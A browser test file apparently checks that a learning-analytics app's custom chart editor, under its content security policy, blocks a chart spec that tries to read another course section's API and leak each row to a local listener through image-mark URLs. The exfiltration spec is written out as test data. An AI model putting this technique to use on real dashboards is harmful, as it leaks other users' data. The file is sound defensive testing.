"""In chromium, under the page's CSP: a chart typed into the custom tab that tries to load another section's API and
to send each row to a listener through image URLs draws its bars, makes no such request, and its PNG export is
refused by the server with the JSON path of the problem."""

from __future__ import annotations

import json
import socket
import threading

import pytest


@pytest.fixture()
def listener():
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    hits: list[str] = []
    running = [True]

    def serve():
        while running[0]:
            try:
                conn, _ = server.accept()
            except (TimeoutError, OSError):
                continue
            hits.append(conn.recv(200).decode(errors="replace"))
            conn.close()

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], hits
    running[0] = False
    thread.join(2)
    server.close()


def test_a_chart_cannot_reach_the_network_from_the_browser(page, log_in, listener):
    port, hits = listener
    spec = {
        "layer": [
            {
                "mark": "bar",
                "encoding": {
                    "x": {"field": "event_type", "type": "nominal"},
                    "y": {"field": "events", "type": "quantitative"},
                },
            },
            {"data": {"url": "/api/v1/sections/chem-fall/analytics/categories/video"}, "mark": "point"},
            {
                "mark": {"type": "image", "width": 10, "height": 10},
                "transform": [{"calculate": f"'http://127.0.0.1:{port}/b.png?u=' + datum.event_type", "as": "u"}],
                "encoding": {"x": {"field": "event_type", "type": "nominal"}, "url": {"field": "u", "type": "nominal"}},
            },
        ]
    }
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    log_in(page, "teacher")
    page.goto("/sections/physics-fall/analytics#custom")
    page.wait_for_selector("#panel-custom .xolap-editor-json .cm-content", timeout=30_000)
    page.locator("#panel-custom .xolap-editor-json .cm-content").click()
    page.keyboard.press("Control+a")
    page.keyboard.insert_text(json.dumps(spec))
    page.click("#panel-custom [data-action=run]")
    page.wait_for_selector("#panel-custom .custom-chart svg .role-mark", timeout=30_000)
    page.wait_for_timeout(1_500)
    assert hits == []
    assert not [url for url in requests if "chem-fall" in url or f":{port}/" in url]
    assert not [error for error in page.errors if "CSP" in error or "Content Security Policy" in error]  # type: ignore[attr-defined]

    page.click("#panel-custom [data-export-custom=png]")
    page.wait_for_selector("#panel-custom .status:has-text('Export failed')", timeout=30_000)
    status = page.locator("#panel-custom .status").inner_text()
    assert "$.layer[1].data.url" in status
    assert hits == []
